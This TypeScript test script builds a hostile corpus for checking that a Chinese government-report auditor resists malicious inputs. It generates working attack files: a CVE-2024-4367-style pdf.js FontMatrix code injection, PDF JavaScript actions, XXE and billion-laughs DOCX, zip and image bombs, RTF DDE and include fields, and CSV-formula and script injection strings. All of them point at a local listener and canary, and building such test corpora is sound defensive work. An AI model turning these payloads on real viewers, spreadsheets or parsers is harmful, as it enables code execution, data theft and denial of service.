/**
 * The hostile corpus of issue 11, written at test time into a folder: broken
 * and booby-trapped PDFs, zip bombs, entity attacks, pathological HTML, prose
 * that tests the narrative checks' complexity, files that lie about their
 * type, injection strings in names, cells and agency names, and special files
 * (FIFOs, devices, links, loops, unreadable files). Only the one long-line
 * page is large (NIANBAO_HOSTILE_MB, default 50); the rest is a few MB.
 *
 * `npx tsx scripts/hostile/corpus.ts DIR [--url http://127.0.0.1:PORT] [--big-mb N]`
 */
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  closeSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { deflateSync, strToU8, Zip, ZipDeflate, ZipPassThrough } from 'fflate';
import iconv from 'iconv-lite';
import { tinyReport, type TinyReport } from '../../bench/make-corpus.js';
import { docx, networkProbes } from './make.js';

const ROOT = join(import.meta.dirname, '../..');
const TITLE = '某县测试局2023年政府信息公开工作年度报告';

export interface HostileOptions {
  /** a local listener every network reference points at */
  url: string;
  /** a file outside the inputs that entities, fields and links name; its content must never reach an output */
  canary: string;
  /** a path a script in a document would create if it ever ran */
  marker: string;
  /** size of the one-line page in MB (default: NIANBAO_HOSTILE_MB or 50; 0 leaves it out) */
  bigMb?: number;
  /** a file outside the inputs that a symbolic link in the corpus points at (a report: it must be read) */
  outside?: string;
  /** leave out the heavy files (bombs, pathological pages, long prose, conversions) */
  light?: boolean;
}

export interface HostileFile {
  /** path under the corpus folder, as the audit names it (for a GBK name: as a lossy UTF-8 reading) */
  path: string;
  kind: string;
  /** slow or big by design: the per-file time limit is checked on these one by one */
  heavy?: boolean;
  /** a special file or link that is reported and never read as a report */
  special?: boolean;
}

// ---------------------------------------------------------------- PDF

/** A PDF of the given object bodies (1-based, latin1: binary stream data as latin1 text) and trailer entries. */
export function pdfOf(objects: string[], trailer = ''): Uint8Array {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

const stream = (dict: string, data: string) => `<< ${dict} /Length ${data.length} >>\nstream\n${data}\nendstream`;
const latin1 = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');

/** Catalog, pages, one page drawing `content` with font F1 = object 5 and image Im1 = object 6 when given. */
function onePage(content: string, font: string, extra: string[] = [], catalog = ''): string[] {
  const image = extra.length ? ' /XObject << /Im1 6 0 R >>' : '';
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalog}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >>${image} >> >>`,
    stream('', content),
    font,
    ...extra,
  ];
}

const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const TEXT = 'BT /F1 12 Tf 72 760 Td (Annual report 2023) Tj 0 -20 Td (1. overview 12 applications) Tj ET';

/** A page holding an image that declares `width` × `height` RGB pixels from a few KB of zeros. */
export function imageBombPdf(width: number, height: number): Uint8Array {
  const zeros = latin1(deflateSync(new Uint8Array(4 * 1024 * 1024), { level: 9 }));
  const image = stream(
    `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode`,
    zeros,
  );
  return pdfOf(onePage(`${TEXT} q 500 0 0 500 50 50 cm /Im1 Do Q`, HELVETICA, [image]));
}

/** JavaScript in every place a viewer would run it: open action, name tree, page and field actions. */
export function javascriptPdf(url: string, marker: string): Uint8Array {
  const js = `app.launchURL("${url}/js-launch", true); this.submitForm("${url}/js-submit"); try { process.getBuiltinModule("fs").writeFileSync("${marker}", "js") } catch (e) {}`;
  const action = `<< /S /JavaScript /JS (${js}) >>`;
  const objects = onePage(
    TEXT,
    HELVETICA,
    [],
    `/OpenAction ${action} /Names << /JavaScript << /Names [(x) ${action}] >> >> /AcroForm << /Fields [] >>`,
  );
  objects[2] = objects[2]!.replace('/Contents', `/AA << /O ${action} /C ${action} >> /Contents`);
  return pdfOf(objects);
}

/**
 * The shape of CVE-2024-4367: an embedded Type1 font whose FontMatrix smuggles
 * code into the glyph path generator of pdf.js before 4.2.67.
 */
export function fontMatrixPdf(marker: string): Uint8Array {
  const program = `%!PS-AdobeFont-1.0: Evil 001.000
/FontName /Evil def /FontType 1 def /PaintType 0 def
/FontMatrix [0.001 0 0 0.001 0 0] readonly def
/Encoding StandardEncoding def
currentdict end
currentfile eexec
`;
  const payload = `(1\\); process.getBuiltinModule\\('fs'\\).writeFileSync\\('${marker}', 'font'\\); //)`;
  const descriptor = `<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile 7 0 R >>`;
  return pdfOf([
    ...onePage(
      TEXT,
      `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontDescriptor 6 0 R /FontMatrix [1 0 0 1 0 ${payload}] >>`,
    ),
    descriptor,
    stream(`/Length1 ${program.length} /Length2 0 /Length3 0`, program),
  ]);
}

/** Standard security handler, revision 2, with a user password nobody knows: nothing is readable without it. */
export function encryptedPdf(): Uint8Array {
  const hex = (seed: number) =>
    Array.from({ length: 32 }, (_, i) => ((i * 37 + seed) % 256).toString(16).padStart(2, '0')).join('');
  const objects = onePage('\x8a\x13\xf0\x9b garbage that only the key would turn into text', HELVETICA);
  objects.push(`<< /Filter /Standard /V 1 /R 2 /Length 40 /O <${hex(11)}> /U <${hex(97)}> /P -44 >>`);
  return pdfOf(objects, `/Encrypt ${objects.length} 0 R /ID [<${hex(5).slice(0, 32)}> <${hex(5).slice(0, 32)}>] `);
}

// ---------------------------------------------------------------- DOCX

const para = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;

/** An internal entity, a file entity naming the canary and an external one naming the listener. */
export function xxeDocx(url: string, canary: string): Uint8Array {
  return docx(`${para(TITLE)}${para('一、总体情况 &file; &net;')}`, {
    prologue: `<!DOCTYPE w:document [<!ENTITY file SYSTEM "file://${canary}"><!ENTITY net SYSTEM "${url}/xxe">]>`,
    rels: `<Relationship Id="rIdC" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://${canary}" TargetMode="External"/>`,
  });
}

/** A parameter entity that pulls a DTD from the listener. */
export function xxeParameterDocx(url: string): Uint8Array {
  return docx(para(TITLE), { prologue: `<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "${url}/dtd"> %remote;]>` });
}

export function billionLaughsDocx(): Uint8Array {
  const levels = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return docx(`${para(TITLE)}${para('&lol9;')}`, { prologue: `<!DOCTYPE w:document [${levels.join('')}]>` });
}

/**
 * A DOCX whose document.xml inflates to `mb` MB of paragraphs from about a
 * three-hundredth of that.
 */
export function zipBombDocx(mb: number): Uint8Array {
  const chunks: Uint8Array[] = [];
  const zip = new Zip((error, data) => {
    if (error) throw error;
    chunks.push(data);
  });
  const entry = (name: string, text: string) => {
    const file = new ZipPassThrough(name);
    zip.add(file);
    file.push(strToU8(text), true);
  };
  entry(
    '[Content_Types].xml',
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  );
  entry(
    '_rels/.rels',
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
  );
  const doc = new ZipDeflate('word/document.xml', { level: 1 });
  zip.add(doc);
  doc.push(
    strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${para(TITLE)}`,
    ),
  );
  const block = strToU8(para('本年度收到政府信息公开申请12件。').repeat(16_384));
  for (let written = 0; written < mb * 1048576; written += block.length) doc.push(block);
  doc.push(strToU8('</w:body></w:document>'), true);
  zip.end();
  return Buffer.concat(chunks);
}

/** Rewrites the uncompressed size the central directory records for `name`. */
export function understate(zip: Uint8Array, name: string, size: number): Uint8Array {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  for (let at = zip.length - 46; at >= 0; at--) {
    if (view.getUint32(at, true) !== 0x02014b50) continue;
    const length = view.getUint16(at + 28, true);
    if (Buffer.from(zip.subarray(at + 46, at + 46 + length)).toString('utf8') !== name) continue;
    view.setUint32(at + 24, size, true);
    return zip;
  }
  throw new Error(`no central directory record for ${name}`);
}

// ---------------------------------------------------------------- HTML, text, RTF

export const deepHtml = (levels: number) =>
  `<!doctype html><html><head><meta charset="utf-8"><title>${TITLE}</title></head><body>${'<div>'.repeat(levels)}一、总体情况</body></html>`;

/** Nested divs, closed, each holding a sentence, to `bytes` in all. */
export function nestedDivs(bytes: number): string {
  const open = '<div><p>本年度收到申请3件。</p>';
  const levels = Math.floor(bytes / (open.length * 3 + 6));
  return `<!doctype html><html><head><meta charset="utf-8"><title>${TITLE}</title></head><body><h1>${TITLE}</h1>${open.repeat(levels)}${'</div>'.repeat(levels)}</body></html>`;
}

/** Sentences with numbers the narrative checks compare against 表三, varied so no two are alike. */
function* sentences(): Generator<string> {
  for (let i = 0; ; i++)
    yield `第${i + 1}项工作中，本年度共收到政府信息公开申请${(i % 97) + 3}件，予以公开${(i % 13) + 1}件，主动公开政府信息${i % 1000}条，办结率百分之${i % 100}。`;
}

function prose(bytes: number): string {
  let out = '';
  for (const s of sentences()) {
    if (out.length * 3 >= bytes) break;
    out += s;
  }
  return out;
}

const REPORT: TinyReport = {
  agency: '某县测试局',
  year: 2023,
  carriedOver: 1,
  newReceived: 12,
  carriedForward: 0,
  issued: 2,
  repealed: 0,
  inForce: 9,
};

/** A text report whose 总体情况 is `bytes` of prose full of numbers. */
export function proseReport(bytes: number): string {
  return tinyReport(REPORT).replace('本年度依法做好政府信息公开工作。', prose(bytes));
}

/** One line of `mb` MB: a web page with a title and narrative numbers, written in pieces. */
export function writeLongLine(path: string, mb: number): void {
  const fd = openSync(path, 'w');
  try {
    writeSync(
      fd,
      `<!doctype html><html><head><meta charset="utf-8"><title>${TITLE}</title></head><body><h1>${TITLE}</h1><p>一、总体情况`,
    );
    const gen = sentences();
    let piece = '';
    for (let written = 0; written < mb * 1048576; ) {
      piece += gen.next().value;
      if (piece.length < 100_000) continue;
      written += writeSync(fd, piece);
      piece = '';
    }
    writeSync(fd, '</p></body></html>');
  } finally {
    closeSync(fd);
  }
}

/** RTF fields that include the canary, link a picture from it and from the listener, and a DDE command. */
export function fieldsRtf(url: string, canary: string): Uint8Array {
  const title = [...TITLE].map((c) => `\\u${c.charCodeAt(0)}?`).join('');
  return strToU8(`{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 SimSun;}}
\\pard ${title}\\par
{\\field{\\*\\fldinst INCLUDETEXT "${canary}"}{\\fldrslt }}\\par
{\\field{\\*\\fldinst INCLUDEPICTURE "file://${canary}" \\\\d}{\\fldrslt }}\\par
{\\field{\\*\\fldinst INCLUDEPICTURE "${url}/fields.png" \\\\d}{\\fldrslt }}\\par
{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}{\\fldrslt }}\\par
{\\field{\\*\\fldinst AUTOTEXT "${url}/fields-autotext"}{\\fldrslt }}\\par
}
`);
}

// ---------------------------------------------------------------- injection

/** Strings a spreadsheet or a browser would run, each with a leading control character or not. */
export const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\0=1+1',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
];

/** A pipe-table text report with a hostile string in its title and in cells the rules will quote. */
function injectedReport(injection: string): string {
  return tinyReport({ ...REPORT, agency: `${injection}某县测试局` })
    .replace('| 规章 | 0 | 0 | 0 |', `| 规章 | ${injection} | 0 | 0 |`)
    .replace(/\| 一、本年新收政府信息公开申请数量 \| 12 \|/, `| 一、本年新收政府信息公开申请数量 | ${injection} |`);
}

/**
 * File names a corpus can hold, at the corpus root so that the audit's `file` column starts with them (run it
 * from that folder): no NUL, so that one stands in the content; a slash makes a folder, so `</script>` spans one.
 */
const NAME_INJECTIONS = [
  "=cmd|' /C calc'!A0.txt",
  '+1+1.txt',
  '-2+3.txt',
  '@SUM(A1).txt',
  '\t=1+1.txt',
  '\r=1+1.txt',
  '<img src=x onerror=alert(1)>.html',
  '<script>alert(1)</script>.txt',
];

// ---------------------------------------------------------------- the corpus

const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
  'hex',
);

function corpusFile(sub: string, name: string): Buffer {
  return readFileSync(join(ROOT, 'corpus', sub, name));
}

/**
 * Writes the hostile corpus into `dir` (created) and returns what it holds.
 * Needs `mkfifo` for the FIFOs; chmod 000 makes a file unreadable only for a
 * user other than root.
 */
export function makeHostileCorpus(dir: string, options: HostileOptions): HostileFile[] {
  mkdirSync(dir, { recursive: true });
  const files: HostileFile[] = [];
  const put = (path: string, bytes: Uint8Array | string, kind: string, extra: Partial<HostileFile> = {}) => {
    if (extra.heavy && options.light) return;
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), bytes);
    files.push({ path, kind, ...extra });
  };
  const { url, canary, marker } = options;
  const samplePdf = corpusFile('pdf', '2021-changle-county-transport.pdf');

  put('pdf/truncated.pdf', samplePdf.subarray(0, Math.floor(samplePdf.length * 0.4)), 'truncated PDF');
  put('pdf/truncated-header.pdf', samplePdf.subarray(0, 600), 'PDF cut after its header');
  put('pdf/encrypted.pdf', encryptedPdf(), 'encrypted PDF');
  put('pdf/image-bomb.pdf', imageBombPdf(60_000, 60_000), 'image bomb PDF (10.8 GB declared)', { heavy: true });
  put('pdf/image-bomb-max.pdf', imageBombPdf(2 ** 31 - 1, 2 ** 31 - 1), 'image bomb PDF (2^31 square)');
  put('pdf/javascript.pdf', javascriptPdf(url, marker), 'PDF with JavaScript actions');
  put('pdf/font-matrix.pdf', fontMatrixPdf(marker), 'CVE-2024-4367-style FontMatrix');
  if (!options.light) {
    const bomb = zipBombDocx(64);
    put('docx/zip-bomb.docx', bomb, 'zip bomb DOCX (64 MB document.xml)', { heavy: true });
    const lying = understate(bomb.slice(), 'word/document.xml', 4096);
    put('docx/zip-bomb-lying.docx', lying, 'zip bomb DOCX understating its size', { heavy: true });
  }
  put('docx/xxe.docx', xxeDocx(url, canary), 'XXE DOCX (file and network entities, file: relationship)');
  put('docx/xxe-parameter.docx', xxeParameterDocx(url), 'XXE DOCX (external parameter entity)');
  put('docx/billion-laughs.docx', billionLaughsDocx(), 'billion laughs DOCX', { heavy: true });
  put('html/deep-100k.html', deepHtml(100_000), '100k-deep nested HTML', { heavy: true });
  put('html/nested-div-1.1mb.html', nestedDivs(1.1 * 1048576), '1.1 MB nested divs', { heavy: true });
  put('text/prose-1mb.txt', proseReport(1048576), '1 MB prose report', { heavy: true });
  put('text/prose-3mb.txt', proseReport(3 * 1048576), '3 MB prose report', { heavy: true });
  const bigMb = options.bigMb ?? Number(process.env.NIANBAO_HOSTILE_MB ?? 50);
  if (bigMb > 0 && !options.light) {
    writeLongLine(join(dir, 'html/long-line.html'), bigMb);
    files.push({ path: 'html/long-line.html', kind: `${bigMb} MB one-line HTML`, heavy: true });
  }
  put('rtf/fields.rtf', fieldsRtf(url, canary), 'RTF with include fields, linked pictures, DDE', { heavy: true });
  for (const [name, bytes] of Object.entries(networkProbes(url)))
    put(
      `net/${name}`,
      bytes,
      `network probe (${name})`,
      name.endsWith('.odt') || name.endsWith('.rtf') ? { heavy: true } : {},
    );

  put('lies/pdf-named.html', samplePdf, 'PDF named .html');
  put('lies/html-named.pdf', corpusFile('reports', '2023-qingshui-town.html'), 'HTML named .pdf');
  put('lies/png-named.docx', PNG, 'PNG named .docx');
  put('lies/png-named.pdf', PNG, 'PNG named .pdf');

  for (const [i, s] of INJECTIONS.entries())
    put(`inject/cells-${i}.txt`, injectedReport(s), `injection in title and cells: ${JSON.stringify(s)}`);
  for (const name of NAME_INJECTIONS) {
    const report = tinyReport({ ...REPORT, carriedForward: 5 }); // off balance: a finding carries the name
    put(
      name,
      name.endsWith('.html') ? `<html><body><pre>${report}</pre></body></html>` : report,
      'injection in file name',
    );
  }
  put('inject/manifest-a.txt', tinyReport({ ...REPORT, carriedForward: 4 }), 'injection in manifest agency');
  put('inject/manifest-b.txt', tinyReport({ ...REPORT, carriedForward: 3 }), 'injection in manifest agency');
  writeFileSync(
    join(dir, 'inject/manifest.csv'),
    `file,agency,year,url\nmanifest-a.txt,"=cmd|' /C calc'!A0",2023,"javascript:alert(1)"\nmanifest-b.txt,"<img src=x onerror=alert(1)>",2023,"<script>alert(1)</script>"\n`,
  );

  put('empty/empty.txt', '', 'empty file');
  put('empty/zero.pdf', '', 'zero-byte PDF');
  put('empty/blank.html', '   \n\n  ', 'whitespace-only HTML');

  const special = (path: string, kind: string, make: (abs: string) => void) => {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    make(join(dir, path));
    files.push({ path, kind, special: true });
  };
  for (const name of ['pipe.pdf', 'pipe.html', 'pipe.txt'])
    special(`special/${name}`, 'FIFO', (abs) => execFileSync('mkfifo', [abs]));
  special('special/dev-zero.pdf', 'link to /dev/zero', (abs) => symlinkSync('/dev/zero', abs));
  special('special/dev-urandom.html', 'link to /dev/urandom', (abs) => symlinkSync('/dev/urandom', abs));
  special('special/dangling.pdf', 'dangling link', (abs) => symlinkSync('/nonexistent/nianbao/x.pdf', abs));
  mkdirSync(join(dir, 'special/loop'), { recursive: true });
  symlinkSync('..', join(dir, 'special/loop/up'));
  symlinkSync('.', join(dir, 'special/loop/self'));
  put('special/unreadable.txt', tinyReport(REPORT), 'unreadable file (chmod 000; root reads it anyway)');
  chmodSync(join(dir, 'special/unreadable.txt'), 0o000);
  if (options.outside) {
    symlinkSync(options.outside, join(dir, 'special/link-outside.txt'));
    files.push({ path: 'special/link-outside.txt', kind: 'link to a report outside the folder' });
  }
  // a GBK name, as an unzipped Windows archive leaves it
  const gbk = iconv.encode('年度报告-GBK.txt', 'gbk');
  writeFileSync(Buffer.concat([Buffer.from(`${dir}/`), gbk]), tinyReport({ ...REPORT, carriedForward: 2 }));
  files.push({ path: gbk.toString('utf8'), kind: 'non-UTF-8 (GBK) file name' });
  return files;
}

/** The canary: content that must never reach an output, with an access time in the past to tell a read. */
export function writeCanary(path: string): string {
  const secret = `CANARY-${Date.now().toString(36)}-${Math.random().toString(36).slice(2)}`;
  writeFileSync(path, `${secret}\n`);
  utimesSync(path, new Date('2001-01-01T00:00:00Z'), new Date());
  return secret;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const [dir, ...rest] = process.argv.slice(2);
  if (!dir) {
    console.error('usage: tsx scripts/hostile/corpus.ts DIR [--url URL] [--big-mb N]');
    process.exit(2);
  }
  const flag = (name: string) => {
    const i = rest.indexOf(name);
    return i >= 0 ? rest[i + 1] : undefined;
  };
  mkdirSync(dir, { recursive: true });
  const canary = join(dir, '..', 'hostile-canary.txt');
  writeCanary(canary);
  const made = makeHostileCorpus(join(dir, 'hostile'), {
    url: flag('--url') ?? 'http://127.0.0.1:9',
    canary,
    marker: join(dir, '..', 'hostile-script-ran'),
    bigMb: flag('--big-mb') === undefined ? undefined : Number(flag('--big-mb')),
  });
  for (const f of made) console.log(`${f.path}\t${f.kind}`);
  console.error(
    `${made.length} files in ${join(dir, 'hostile')} (${readdirSync(join(dir, 'hostile')).length} folders)`,
  );
}
